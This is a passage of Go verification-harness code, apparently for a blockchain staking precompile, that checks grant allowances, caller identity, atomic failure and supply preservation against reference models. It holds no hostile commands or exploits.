func c04SaveGrant(k authzkeeper.Keeper, ctx sdk.Context, grantee, granter sdk.AccAddress, a authz.Authorization, expiration *time.Time) error {
	c04Write(ctx, c04Entry{kind: 0, key: c04Key(grantee, granter, a.MsgTypeURL()), g: &c04Grant{auth: a, exp: expiration}})
	return nil
}
func c04DeleteGrant(k authzkeeper.Keeper, ctx sdk.Context, grantee, granter sdk.AccAddress, msgType string) error {
	key := c04Key(grantee, granter, msgType)
	c04Sync(ctx)
	if _, ok := c04.grants[key]; !ok {
		return authz.ErrNoAuthorizationFound
	}
	c04Write(ctx, c04Entry{kind: 1, key: key})
	return nil
}

type c04Srv struct{}

func (c04Srv) record(ctx context.Context, m sdk.Msg) error {
	if c04.srvFail {
		return errors.New("staking module refused")
	}
	c04Write(sdk.UnwrapSDKContext(ctx), c04Entry{kind: 2, m: m})
	return nil
}
func (s c04Srv) CreateValidator(ctx context.Context, m *stakingtypes.MsgCreateValidator) (*stakingtypes.MsgCreateValidatorResponse, error) {
	return &stakingtypes.MsgCreateValidatorResponse{}, s.record(ctx, m)
}
func (s c04Srv) EditValidator(context.Context, *stakingtypes.MsgEditValidator) (*stakingtypes.MsgEditValidatorResponse, error) {
	panic("not used")
}
func (s c04Srv) Delegate(ctx context.Context, m *stakingtypes.MsgDelegate) (*stakingtypes.MsgDelegateResponse, error) {
	if err := c02Delegate(ctx, m); err != nil {
		return nil, err
	}
	return &stakingtypes.MsgDelegateResponse{}, s.record(ctx, m)
}
func (s c04Srv) BeginRedelegate(ctx context.Context, m *stakingtypes.MsgBeginRedelegate) (*stakingtypes.MsgBeginRedelegateResponse, error) {
	return &stakingtypes.MsgBeginRedelegateResponse{}, s.record(ctx, m)
}
func (s c04Srv) Undelegate(ctx context.Context, m *stakingtypes.MsgUndelegate) (*stakingtypes.MsgUndelegateResponse, error) {
	return &stakingtypes.MsgUndelegateResponse{}, s.record(ctx, m)
}
func (s c04Srv) CancelUnbondingDelegation(ctx context.Context, m *stakingtypes.MsgCancelUnbondingDelegation) (*stakingtypes.MsgCancelUnbondingDelegationResponse, error) {
	return &stakingtypes.MsgCancelUnbondingDelegationResponse{}, s.record(ctx, m)
}
func (s c04Srv) UpdateParams(context.Context, *stakingtypes.MsgUpdateParams) (*stakingtypes.MsgUpdateParamsResponse, error) {
	panic("not used")
}

func c04NewMsgServer(k *stakingkeeper.Keeper) stakingtypes.MsgServer { return c04Srv{} }
func c04BondDenom(k sdkstakingkeeper.Keeper, ctx sdk.Context) string { return "aISLM" }
func c04IterateValidators(k sdkstakingkeeper.Keeper, ctx sdk.Context, fn func(index int64, validator stakingtypes.ValidatorI) (stop bool)) {
	fn(0, stakingtypes.Validator{OperatorAddress: c04Val})
}
func c04EmitApproval(p Precompile, ctx sdk.Context, stateDB vm.StateDB, grantee, granter common.Address, coin *sdk.Coin, typeUrls []string) error {
	return nil
}
func c04EmitAllowanceChange(p Precompile, ctx sdk.Context, stateDB vm.StateDB, grantee, granter common.Address, typeUrls []string) error {
	return nil
}
func c04EmitDelegate(p Precompile, ctx sdk.Context, stateDB vm.StateDB, msg *stakingtypes.MsgDelegate, delegatorAddr common.Address) error {
	return nil
}
func c04EmitUnbond(p Precompile, ctx sdk.Context, stateDB vm.StateDB, msg *stakingtypes.MsgUndelegate, delegatorAddr common.Address, completionTime int64) error {
	return nil
}
func c04EmitRedelegate(p Precompile, ctx sdk.Context, stateDB vm.StateDB, msg *stakingtypes.MsgBeginRedelegate, delegatorAddr common.Address, completionTime int64) error {
	return nil
}
func c04EmitCancel(p Precompile, ctx sdk.Context, stateDB vm.StateDB, msg *stakingtypes.MsgCancelUnbondingDelegation, delegatorAddr common.Address) error {
	return nil
}
func c04EmitRevocation(args cmn.EmitEventArgs) error                       { return nil }

var (
	c04Origin   = common.HexToAddress("0x1000000000000000000000000000000000000001") // the transaction signer
	c04Contract = common.HexToAddress("0x2000000000000000000000000000000000000002") // a calling contract
	c04Other    = common.HexToAddress("0x3000000000000000000000000000000000000003") // a third party
	c04Val2     = sdk.ValAddress([]byte{8, 8, 8, 8, 8, 8, 8, 8, 8, 8, 8, 8, 8, 8, 8, 8, 8, 8, 8, 8}).String()
	c04Val      = sdk.ValAddress([]byte{9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9}).String()
	c04Addrs    = []common.Address{c04Origin, c04Contract, c04Other}
)

// c04Ledger: balances behind the StateDB (only what the mirroring needs).
type c04Ledger struct{ bal map[common.Address]*big.Int }

func (l *c04Ledger) GetAccount(ctx sdk.Context, addr common.Address) *statedb.Account {
	b, ok := l.bal[addr]
	if !ok {
		return nil
	}
	return &statedb.Account{Balance: new(big.Int).Set(b)}
}
func (l *c04Ledger) GetState(ctx sdk.Context, addr common.Address, key common.Hash) common.Hash { return common.Hash{} }
func (l *c04Ledger) GetCode(ctx sdk.Context, codeHash common.Hash) []byte                        { return nil }
func (l *c04Ledger) ForEachStorage(ctx sdk.Context, addr common.Address, cb func(key, value common.Hash) bool) {
}
func (l *c04Ledger) SetAccount(ctx sdk.Context, addr common.Address, account statedb.Account) error { return nil }
func (l *c04Ledger) SetState(ctx sdk.Context, addr common.Address, key common.Hash, value []byte)   {}
func (l *c04Ledger) SetCode(ctx sdk.Context, codeHash []byte, code []byte)                          {}
func (l *c04Ledger) DeleteAccount(ctx sdk.Context, addr common.Address) error                       { return nil }

func c04Setup() (Precompile, sdk.Context, *statedb.StateDB) {
	c04.grants = map[string]*c04Grant{}
	c04.msgs = nil
	c04.srvFail = false
	c04.jmode, c04.journal, c04.base, c04.oogAt, c04.writes = false, nil, nil, -1, 0
	env := zz.NewEnv([]string{"staking"}, nil)
	c04.env = env
	p := Precompile{Precompile: cmn.Precompile{ApprovalExpiration: time.Hour}, stakingKeeper: stakingkeeper.Keeper{Keeper: &sdkstakingkeeper.Keeper{}}}
	l := &c04Ledger{bal: map[common.Address]*big.Int{}}
	for _, a := range c04Addrs {
		l.bal[a] = new(big.Int).Lsh(big.NewInt(1), 200)
	}
	ctx := env.Ctx.WithBlockTime(time.Unix(1700000000, 0))
	return p, ctx, statedb.New(ctx, l, statedb.NewEmptyTxConfig(common.Hash{}))
}

var c04Method = &abi.Method{Name: "m"}

// c04Limit reads the reference view of a grant: (exists, limited, limit).
func c04Limit(grantee, granter common.Address, url string) (bool, bool, sdkmath.Int) {
	g, ok := c04.grants[c04Key(grantee.Bytes(), granter.Bytes(), url)]
	if !ok {
		return false, false, sdkmath.ZeroInt()
	}
	sa := g.auth.(*stakingtypes.StakeAuthorization)
	if sa.MaxTokens == nil {
		return true, false, sdkmath.ZeroInt()
	}
	return true, true, sa.MaxTokens.Amount
}

// VerifC04_Allowance: every sequence of approve / increase / decrease / revoke and spends by the calling contract keeps the
// grant equal to a running-allowance model, and a spend reaches the staking module only within it.
func VerifC04_Allowance() {
	p, ctx, db := c04Setup()
	steps := zz.ParamInt("steps", 3)
	// reference model of the (contract <- signer, MsgDelegate) grant
	exists, limited, limit := false, false, sdkmath.ZeroInt()
	maxU256 := new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), 256), big.NewInt(1))
	spent := 0
	for i := 0; i < steps; i++ {
		t := "s" + string(rune('0'+i))
		amt := zz.AnyAmount(t+".amount", 200)
		args := []interface{}{c04Contract, amt.BigInt(), []string{DelegateMsg}}
		switch zz.Choose(t+".op", 6) {
		case 0: // approve(amount): 0 deletes, 2^256-1 means unlimited
			_, err := p.Approve(ctx, c04Origin, db, c04Method, args)
			if amt.IsZero() {
				zz.Assert((err == nil) == exists, "approve(0) revokes an existing grant and fails otherwise")
				exists = false
			} else {
				zz.Assert(err == nil, "approve(limit) succeeds")
				exists, limited, limit = true, true, amt
			}
		case 1: // approve unlimited
			_, err := p.Approve(ctx, c04Origin, db, c04Method, []interface{}{c04Contract, maxU256, []string{DelegateMsg}})
			zz.Assert(err == nil, "approve(unlimited) succeeds")
			exists, limited = true, false
		case 2:
			_, err := p.IncreaseAllowance(ctx, c04Origin, db, c04Method, args)
			zz.Assert((err == nil) == exists, "increaseAllowance needs an existing grant")
			if exists && limited {
				limit = limit.Add(amt)
			}
		case 3:
			_, err := p.DecreaseAllowance(ctx, c04Origin, db, c04Method, args)
			ok := exists && (!limited || amt.LTE(limit))
			zz.Assert((err == nil) == ok, "decreaseAllowance needs an existing grant and an amount within the limit")
			if ok && limited {
				limit = limit.Sub(amt)
			}
		case 4:
			_, err := p.Revoke(ctx, c04Origin, db, c04Method, []interface{}{c04Contract, []string{DelegateMsg}})
			zz.Assert((err == nil) == exists, "revoke needs an existing grant")
			exists = false
		default: // the contract spends: delegate the signer's funds
			zz.Assume(amt.IsPositive())
			n0 := len(c04.msgs)
			_, err := p.Delegate(ctx, c04Origin, &vm.Contract{CallerAddress: c04Contract}, db, c04Method, []interface{}{c04Origin, c04Val, amt.BigInt()})
			ok := exists && (!limited || amt.LTE(limit))
			zz.Assert((err == nil) == ok, "a spend by the calling contract succeeds exactly within a live grant")
			zz.Assert((len(c04.msgs) == n0+1) == ok, "the staking module is reached exactly when the spend is allowed")
			if ok {
				spent++
				if limited {
					limit = limit.Sub(amt)
					if limit.IsZero() {
						exists = false // a fully used limited grant is removed
					}
				}
			}
		}
		// a grant that exists keeps the expiry it was approved with: neither a spend nor an allowance change may drop or move it
		if g, ok := c04.grants[c04Key(c04Contract.Bytes(), c04Origin.Bytes(), DelegateMsg)]; ok {
			zz.Assert(g.exp != nil && g.exp.Equal(ctx.BlockTime().Add(p.ApprovalExpiration)), "a live grant keeps its expiry through every allowance change and spend")
		}
		// the stored grant equals the model after every step
		e, l, v := c04Limit(c04Contract, c04Origin, DelegateMsg)
		zz.Assert(e == exists, "grant existence matches the running-allowance model")
		if e && exists {
			zz.Assert(l == limited, "limited / unlimited matches the model")
			if l && limited {
				zz.ObserveInt(t+".limit", v)
				zz.Assert(v.Equal(limit), "remaining limit = approved + increased - decreased - spent, exactly")
			}
		}
	}
	zz.Reach("end")
}

// VerifC04_Identity: one delegate / undelegate call for every (signer, caller, named account) relationship and grant state.
func VerifC04_Identity() {
	p, ctx, db := c04Setup()
	caller := c04Addrs[zz.Choose("caller", 2)] // the signer itself or a contract
	named := c04Addrs[zz.Choose("namedAccount", 3)]
	amt := zz.AnyAmount("amount", 128)
	method := zz.Choose("method", 4)
	url := []string{DelegateMsg, UndelegateMsg, RedelegateMsg, CancelUnbondingDelegationMsg}[method]
	// grant state: absent / wrong type (generic) / limited / unlimited / for another message type / unlimited with a deny list
	// naming the validators of the call (such grants come from a Cosmos MsgGrant)
	var limit sdkmath.Int
	grantKind := zz.Choose("grant", 6)
	// the validator address as the call spells it: canonical, or all upper case (bech32 admits both for the same address)
	spelled := c04Val
	if zz.AnyBool("validatorSpelledInUpperCase") {
		spelled = strings.ToUpper(c04Val)
	}
	authzType := []stakingtypes.AuthorizationType{DelegateAuthz, UndelegateAuthz, RedelegateAuthz, CancelUnbondingDelegationAuthz}[method]
	gKey := c04Key(caller.Bytes(), c04Origin.Bytes(), url)
	switch grantKind {
	case 1:
		c04.grants[gKey] = &c04Grant{auth: authz.NewGenericAuthorization(url)}
	case 2:
		limit = zz.AnyAmount("limit", 128)
		c := sdk.NewCoin("aISLM", limit)
		c04.grants[gKey] = &c04Grant{auth: &stakingtypes.StakeAuthorization{AuthorizationType: authzType, MaxTokens: &c,
			Validators: &stakingtypes.StakeAuthorization_AllowList{AllowList: &stakingtypes.StakeAuthorization_Validators{Address: []string{c04Val}}}}}
	case 3:
		c04.grants[gKey] = &c04Grant{auth: &stakingtypes.StakeAuthorization{AuthorizationType: authzType,
			Validators: &stakingtypes.StakeAuthorization_AllowList{AllowList: &stakingtypes.StakeAuthorization_Validators{Address: []string{c04Val}}}}}
	case 5:
		c04.grants[gKey] = &c04Grant{auth: &stakingtypes.StakeAuthorization{AuthorizationType: authzType,
			Validators: &stakingtypes.StakeAuthorization_DenyList{DenyList: &stakingtypes.StakeAuthorization_Validators{Address: []string{c04Val, c04Val2}}}}}
	case 4: // a grant for another message type only
		other, otherT := RedelegateMsg, RedelegateAuthz
		if method == 2 {
			other, otherT = DelegateMsg, DelegateAuthz
		}
		c04.grants[c04Key(caller.Bytes(), c04Origin.Bytes(), other)] = &c04Grant{auth: &stakingtypes.StakeAuthorization{AuthorizationType: otherT}}
	}
	c04.srvFail = zz.AnyBool("moduleRefuses")
	bal0 := new(big.Int).Set(db.GetBalance(caller))
	contract := &vm.Contract{CallerAddress: caller}
	args := []interface{}{named, spelled, amt.BigInt()}
	var err error
	switch method {
	case 0:
		_, err = p.Delegate(ctx, c04Origin, contract, db, c04Method, args)
	case 1:
		_, err = p.Undelegate(ctx, c04Origin, contract, db, c04Method, args)
	case 2:
		_, err = p.Redelegate(ctx, c04Origin, contract, db, c04Method, []interface{}{named, spelled, c04Val2, amt.BigInt()})
	default:
		_, err = p.CancelUnbondingDelegation(ctx, c04Origin, contract, db, c04Method, []interface{}{named, spelled, amt.BigInt(), big.NewInt(7)})
	}
	if err != nil {
		zz.Assert(len(c04.msgs) == 0, "a failed call does not reach the staking module")
		zz.Assert(db.GetBalance(caller).Cmp(bal0) == 0, "a failed call mirrors nothing into the EVM state")
		zz.Reach("rejected")
		return
	}
	// C16: exactly one native message with exactly the call's fields
	zz.Assert(len(c04.msgs) == 1, "exactly one message is handed to the staking module")
	var delegator, validator string
	var coin sdk.Coin
	switch m := c04.msgs[0].(type) {
	case *stakingtypes.MsgDelegate:
		zz.Assert(method == 0, "delegate hands over a MsgDelegate")
		delegator, validator, coin = m.DelegatorAddress, m.ValidatorAddress, m.Amount
	case *stakingtypes.MsgUndelegate:
		zz.Assert(method == 1, "undelegate hands over a MsgUndelegate")
		delegator, validator, coin = m.DelegatorAddress, m.ValidatorAddress, m.Amount
	case *stakingtypes.MsgBeginRedelegate:
		zz.Assert(method == 2 && m.ValidatorDstAddress == c04Val2, "redelegate hands over a MsgBeginRedelegate with the destination validator of the call")
		delegator, validator, coin = m.DelegatorAddress, m.ValidatorSrcAddress, m.Amount
	case *stakingtypes.MsgCancelUnbondingDelegation:
		zz.Assert(method == 3 && m.CreationHeight == 7, "cancelUnbondingDelegation hands over the native message with the creation height of the call")
		delegator, validator, coin = m.DelegatorAddress, m.ValidatorAddress, m.Amount
	}
	zz.Assert(validator == c04Val && coin.Denom == "aISLM" && coin.Amount.Equal(amt), "validator and amount (bond denom) are those of the call")
	zz.Assert(delegator == sdk.AccAddress(named.Bytes()).String(), "the delegator of the native message is the named account")
	// C04: the named account is the signer or the immediate caller
	zz.Assert(named == c04Origin || named == caller, "the account acted for is the transaction signer or the calling contract")
	if caller != c04Origin {
		// the caller is not the signer: a live grant of the right type from the account acted for covered the amount
		zz.Assert(grantKind == 2 || grantKind == 3, "a caller other than the signer needs a live staking grant for this message type that covers the validator (a grant that denies the validator covers no spelling of its address)")
		zz.Reach("contract-caller-accepted")
		if grantKind == 2 {
			zz.Reach("limited-grant-spent")
			zz.Assert(amt.LTE(limit), "a limited grant is never overspent")
			e, _, v := c04Limit(caller, c04Origin, url)
			if amt.Equal(limit) {
				zz.Assert(!e, "a fully used grant is removed")
			} else {
				zz.Assert(e && v.Equal(limit.Sub(amt)), "a limited grant is reduced by exactly the amount used")
			}
		}
	}
	// C02: the Cosmos-side debit of a delegation is mirrored into the EVM's cached balance of the caller when it is the delegator
	if method == 0 && caller == named {
		zz.Reach("mirrored")
		zz.Assert(db.GetBalance(caller).Cmp(new(big.Int).Sub(bal0, amt.BigInt())) == 0, "the delegated amount is debited in the EVM's view of the delegator")
	}
	// (what happens to the EVM's view when the delegator is not the caller is C02's subject: VerifC02_StakingMirror)
	zz.Reach("end")
}

var _ = authorization.ApproveMethod

// VerifC04_CreateValidatorIdentity: createValidator self-bonds the named account's coins. There is no staking authorization
// for MsgCreateValidator, so a caller other than the signer can never be covered by a live staking grant: the call reaches
// the staking module only when the signer calls the precompile itself for its own account, or when the account acted for
// is the immediate caller (which then spends its own coins).
func VerifC04_CreateValidatorIdentity() {
	p, ctx, db := c04Setup()
	caller := c04Addrs[zz.Choose("caller", 2)] // the signer itself or a contract
	named := c04Addrs[zz.Choose("namedAccount", 3)]
	value := zz.AnyAmount("value", 100)
	zz.Assume(value.IsPositive())
	// grant state signer -> caller: absent / generic for MsgCreateValidator / unlimited delegate grant
	cvURL := sdk.MsgTypeURL(&stakingtypes.MsgCreateValidator{})
	switch zz.Choose("grant", 3) {
	case 1:
		c04.grants[c04Key(caller.Bytes(), c04Origin.Bytes(), cvURL)] = &c04Grant{auth: authz.NewGenericAuthorization(cvURL)}
	case 2:
		c04.grants[c04Key(caller.Bytes(), c04Origin.Bytes(), DelegateMsg)] = &c04Grant{auth: &stakingtypes.StakeAuthorization{AuthorizationType: DelegateAuthz}}
	}
	c04.srvFail = zz.AnyBool("moduleRefuses")
	args := []interface{}{
		Description{Moniker: "m"},
		Commission{Rate: big.NewInt(0), MaxRate: big.NewInt(0), MaxChangeRate: big.NewInt(0)},
		big.NewInt(1), named, sdk.ValAddress(named.Bytes()).String(), "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=", value.BigInt(),
	}
	_, err := p.CreateValidator(ctx, c04Origin, &vm.Contract{CallerAddress: caller}, db, c04Method, args)
	if err != nil {
		zz.Assert(len(c04.msgs) == 0, "a failed call does not reach the staking module")
		zz.Reach("rejected")
		return
	}
	zz.Assert(len(c04.msgs) == 1, "exactly one message is handed to the staking module")
	m := c04.msgs[0].(*stakingtypes.MsgCreateValidator)
	zz.Assert(m.DelegatorAddress == sdk.AccAddress(named.Bytes()).String() && m.Value.Amount.Equal(value) && m.Value.Denom == "aISLM", "the self-bond is the named account's, of the value of the call")
	zz.Assert(named == c04Origin || named == caller, "the account acted for is the transaction signer or the calling contract")
	zz.Assert(caller == c04Origin || named == caller, "a contract cannot self-bond the signer's coins: no staking grant covers MsgCreateValidator [shape C04-F3 createValidator by a contract for the signer]")
	zz.Reach("created")
	zz.Reach("end")
}
