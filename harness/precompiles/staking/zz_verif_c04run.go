package staking

// Harness for properties C04 / C05 through the real Precompile.Run: a state-changing call either succeeds as a whole or
// leaves nothing behind - also when the SDK gas meter runs out at an arbitrary Cosmos-side write (between the staking
// message and the rewrite of the grant, for instance). The EVM treats such a call as failed and reverts its own journal;
// the calling contract may ignore the failure and the transaction goes on. RunSetup (ABI decoding of the call data, gas
// meter set-up) is replaced by handing the decoded values over; everything after it in Run is the real code.

import (
	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/core/vm"

	cmn "github.com/haqq-network/haqq/precompiles/common"
	"github.com/haqq-network/haqq/x/evm/statedb"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override (github.com/haqq-network/haqq/precompiles/common.Precompile).RunSetup -> c04RunSetup

func c04RunSetup(p cmn.Precompile, evm *vm.EVM, contract *vm.Contract, readOnly bool, isTransaction func(name string) bool) (sdk.Context, *statedb.StateDB, *abi.Method, sdk.Gas, []interface{}, error) {
	return c04.run.ctx, c04.run.db, c04.run.method, 0, c04.run.args, nil
}

func VerifC04_RunAtomic() {
	p, ctx, db := c04Setup()
	ctx = ctx.WithGasMeter(sdk.NewInfiniteGasMeter())
	c04.jmode = true
	// the signer's grant to the contract: limited, validator allow list [c04Val]
	limit0 := zz.AnyAmount("limit", 100)
	zz.Assume(limit0.IsPositive())
	mname := []string{DelegateMethod, UndelegateMethod}[zz.Choose("method", 2)]
	url, at := DelegateMsg, DelegateAuthz
	if mname == UndelegateMethod {
		url, at = UndelegateMsg, UndelegateAuthz
	}
	c := sdk.NewCoin("aISLM", limit0)
	exp := ctx.BlockTime().Add(p.ApprovalExpiration)
	gKey := c04Key(c04Contract.Bytes(), c04Origin.Bytes(), url)
	c04.base = map[string]*c04Grant{gKey: {exp: &exp, auth: &stakingtypes.StakeAuthorization{AuthorizationType: at, MaxTokens: &c,
		Validators: &stakingtypes.StakeAuthorization_AllowList{AllowList: &stakingtypes.StakeAuthorization_Validators{Address: []string{c04Val}}}}}}
	c04.oogAt = zz.Choose("gasRunsOutAtWrite", 4) - 1 // -1: never; 0, 1, 2: at that Cosmos-side write
	amt := zz.AnyAmount("amount", 100)
	zz.Assume(amt.IsPositive())
	c04.run.ctx, c04.run.db, c04.run.method = ctx, db, &abi.Method{Name: mname}
	c04.run.args = []interface{}{c04Origin, c04Val, amt.BigInt()}
	evm := &vm.EVM{TxContext: vm.TxContext{Origin: c04Origin}, StateDB: db}
	snap := db.Snapshot()
	_, err := p.Run(evm, &vm.Contract{CallerAddress: c04Contract, Gas: 1 << 40}, false)
	if err != nil {
		db.RevertToSnapshot(snap) // what the EVM does with a failed call; the calling contract carries on
	}
	c04Sync(ctx) // the Cosmos-side state the transaction is left with
	e, l, v := c04Limit(c04Contract, c04Origin, url)
	if err != nil {
		zz.Assert(len(c04.msgs) == 0, "a failed precompile call leaves no staking message applied [shape C04-F4 failed call keeps its Cosmos-side writes]")
		zz.Assert(e && l && v.Equal(limit0), "a failed precompile call leaves the grant as it was")
		zz.Reach("failed")
		if c04.oogAt >= 0 && c04.writes > c04.oogAt {
			zz.Reach("out-of-gas")
		}
	} else {
		zz.Assert(len(c04.msgs) == 1, "a successful call applied exactly one staking message")
		zz.Assert(amt.LTE(limit0), "a limited grant is never overspent")
		if amt.Equal(limit0) {
			zz.Assert(!e, "a fully used grant is removed")
		} else {
			zz.Assert(e && l && v.Equal(limit0.Sub(amt)), "a limited grant is reduced by exactly the amount used")
		}
		zz.Reach("succeeded")
	}
	zz.Reach("end")
}

var _ = sdkmath.ZeroInt
