package staking

// Harness for property C02 around the staking precompile: the real StateDB (journal, Commit) and the real precompile
// method bodies (Delegate / Undelegate and their balance mirroring) over a bank ledger whose SetAccount mints / burns the
// difference exactly like x/evm/keeper.SetBalance; the staking module is a message server that moves the coins in that
// ledger. Topologies: signer -> precompile, signer -> contract (with or without value) -> precompile; delegator = signer or
// the calling contract; further EVM value transfers before / after the precompile call; the final Commit.

import (
	"context"
	"errors"
	"math/big"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	sdkstakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/vm"

	cmn "github.com/haqq-network/haqq/precompiles/common"
	stakingkeeper "github.com/haqq-network/haqq/x/staking/keeper"
	"github.com/haqq-network/haqq/x/evm/statedb"
	zz "github.com/haqq-network/haqq/zzverif"
)

var c02Pool = common.HexToAddress("0x4000000000000000000000000000000000000004") // bonded pool

// c02Bank: the bank behind the EVM keeper. SetAccount writes the EVM's view of an account back: the difference is minted or
// burned (x/evm/keeper/statedb.go SetBalance), which is exactly how an overwrite becomes a supply change.
type c02Bank struct {
	bal    map[common.Address]sdkmath.Int
	supply sdkmath.Int
}

func (l *c02Bank) get(a common.Address) sdkmath.Int {
	if v, ok := l.bal[a]; ok {
		return v
	}
	return sdk.ZeroInt()
}
func (l *c02Bank) GetAccount(ctx sdk.Context, addr common.Address) *statedb.Account {
	v, ok := l.bal[addr]
	if !ok {
		return nil
	}
	return &statedb.Account{Balance: v.BigInt()}
}
func (l *c02Bank) GetState(ctx sdk.Context, addr common.Address, key common.Hash) common.Hash { return common.Hash{} }
func (l *c02Bank) GetCode(ctx sdk.Context, codeHash common.Hash) []byte                        { return nil }
func (l *c02Bank) ForEachStorage(ctx sdk.Context, addr common.Address, cb func(key, value common.Hash) bool) {
}
func (l *c02Bank) SetAccount(ctx sdk.Context, addr common.Address, account statedb.Account) error {
	nb := sdkmath.NewIntFromBigInt(account.Balance)
	l.supply = l.supply.Add(nb.Sub(l.get(addr))) // mint / burn the delta
	l.bal[addr] = nb
	return nil
}
func (l *c02Bank) SetState(ctx sdk.Context, addr common.Address, key common.Hash, value []byte) {}
func (l *c02Bank) SetCode(ctx sdk.Context, codeHash []byte, code []byte)                        {}
func (l *c02Bank) DeleteAccount(ctx sdk.Context, addr common.Address) error {
	l.supply = l.supply.Sub(l.get(addr))
	delete(l.bal, addr)
	return nil
}
func (l *c02Bank) move(from, to common.Address, amt sdkmath.Int) error {
	if l.get(from).LT(amt) {
		return errors.New("insufficient funds")
	}
	l.bal[from] = l.get(from).Sub(amt)
	l.bal[to] = l.get(to).Add(amt)
	return nil
}

var c02 struct {
	bank    *c02Bank
	rewards sdkmath.Int // pending staking rewards of the delegator that the distribution hooks pay out when a delegation changes
}

var c02Distr = common.HexToAddress("0x5000000000000000000000000000000000000005") // distribution module account

// the staking module: moves the delegated coins to the bonded pool / back (undelegation pays out later, nothing moves now)
func c02Delegate(ctx context.Context, m *stakingtypes.MsgDelegate) error {
	if c02.bank == nil {
		return nil
	}
	from := common.BytesToAddress(sdk.MustAccAddressFromBech32(m.DelegatorAddress).Bytes())
	if err := c02.bank.move(from, c02Pool, m.Amount.Amount); err != nil {
		return err
	}
	// BeforeDelegationSharesModified: outstanding rewards of an existing delegation are withdrawn to the delegator
	if !c02.rewards.IsNil() && c02.rewards.IsPositive() {
		return c02.bank.move(c02Distr, from, c02.rewards)
	}
	return nil
}

func c02Hex(a common.Address) string { return string(rune('A' + int(a[0]>>4) - 1)) }

// VerifC02_StakingMirror: after the final Commit the total supply is unchanged and every account's bank balance is its
// balance before, plus received, minus sent and delegated.
func VerifC02_StakingMirror() {
	env := zz.NewEnv([]string{"staking"}, nil)
	ctx := env.Ctx.WithBlockTime(time.Unix(1700000000, 0))
	c04.grants = map[string]*c04Grant{}
	c04.msgs = nil
	c04.srvFail = false
	p := Precompile{Precompile: cmn.Precompile{ApprovalExpiration: time.Hour}, stakingKeeper: stakingkeeper.Keeper{Keeper: &sdkstakingkeeper.Keeper{}}}
	bank := &c02Bank{bal: map[common.Address]sdkmath.Int{}, supply: sdk.ZeroInt()}
	c02.bank = bank
	defer func() { c02.bank = nil }()
	init := map[common.Address]sdkmath.Int{}
	for _, a := range c04Addrs {
		b := zz.AnyAmount("bal."+c02Hex(a), 100)
		bank.bal[a], init[a] = b, b
		bank.supply = bank.supply.Add(b)
	}
	bank.bal[c02Pool], init[c02Pool] = sdk.ZeroInt(), sdk.ZeroInt()
	c02.rewards = sdk.ZeroInt()
	if zz.ParamInt("rewards", 1) == 1 && zz.AnyBool("delegatorHasPendingRewards") {
		c02.rewards = zz.AnyAmount("pendingRewards", 64)
	}
	bank.bal[c02Distr], init[c02Distr] = c02.rewards, c02.rewards
	bank.supply = bank.supply.Add(c02.rewards)
	supply0 := bank.supply
	db := statedb.New(ctx, bank, statedb.NewEmptyTxConfig(common.Hash{}))

	// expected balances (reference bookkeeping)
	exp := map[common.Address]sdkmath.Int{}
	for a, b := range init {
		exp[a] = b
	}
	touched := map[common.Address]bool{} // accounts with a surviving balance change in the EVM journal
	transfer := func(tag string, from, to common.Address) bool {
		v := zz.AnyAmount(tag, 64)
		if db.GetBalance(from).Cmp(v.BigInt()) < 0 { // CanTransfer
			return false
		}
		db.SubBalance(from, v.BigInt())
		db.AddBalance(to, v.BigInt())
		exp[from], exp[to] = exp[from].Sub(v), exp[to].Add(v)
		if v.IsPositive() {
			touched[from], touched[to] = true, true
		}
		return true
	}

	// the transaction: the signer calls either the precompile directly or a contract, optionally with value
	viaContract := zz.AnyBool("viaContract")
	caller := c04Origin
	db.GetBalance(c04Origin) // CanTransfer loads the signer's account in every message call
	if viaContract {
		caller = c04Contract
		db.GetCodeHash(c04Contract) // the EVM fetches the code of the contract it runs: its account is cached from here on
		if zz.AnyBool("withValue") {
			if !transfer("value", c04Origin, c04Contract) {
				zz.Reach("cannot-pay-value")
				return
			}
		}
		if zz.AnyBool("contractPaysThirdPartyFirst") {
			transfer("pre", c04Contract, c04Other)
		}
		// a sub-call that pays the signer and then reverts: the signer's account must be left exactly as untouched as before
		if zz.AnyBool("revertedSubCallPaysSigner") {
			snap := db.Snapshot()
			v := zz.AnyAmount("revertedValue", 64)
			if db.GetBalance(c04Contract).Cmp(v.BigInt()) >= 0 {
				db.SubBalance(c04Contract, v.BigInt())
				db.AddBalance(c04Origin, v.BigInt())
			}
			db.RevertToSnapshot(snap)
		}
	}
	named := c04Origin
	if zz.AnyBool("delegatorIsCaller") {
		named = caller
	}
	amt := zz.AnyAmount("amount", 100)
	if caller != c04Origin {
		// unlimited staking grant signer -> contract
		c04.grants[c04Key(caller.Bytes(), c04Origin.Bytes(), DelegateMsg)] = &c04Grant{auth: &stakingtypes.StakeAuthorization{AuthorizationType: DelegateAuthz,
			Validators: &stakingtypes.StakeAuthorization_AllowList{AllowList: &stakingtypes.StakeAuthorization_Validators{Address: []string{c04Val}}}}}
	}
	// Precompile.Run: flush, then the method body
	if err := db.Commit(); err != nil {
		panic(err)
	}
	snap := db.Snapshot()
	_, err := p.Delegate(ctx, c04Origin, &vm.Contract{CallerAddress: caller}, db, c04Method, []interface{}{named, c04Val, amt.BigInt()})
	if err != nil {
		// a failed precompile call reverts its frame; the module server did not move coins (it fails before or atomically)
		db.RevertToSnapshot(snap)
		zz.Reach("precompile-failed")
	} else {
		zz.Reach("delegated")
		exp[named], exp[c02Pool] = exp[named].Sub(amt).Add(c02.rewards), exp[c02Pool].Add(amt)
		exp[c02Distr] = exp[c02Distr].Sub(c02.rewards)
	}
	// the contract goes on: pays somebody after the precompile call
	if viaContract && zz.AnyBool("contractPaysThirdPartyAfter") {
		transfer("post", c04Contract, c04Other)
	}
	if err := db.Commit(); err != nil {
		panic(err)
	}
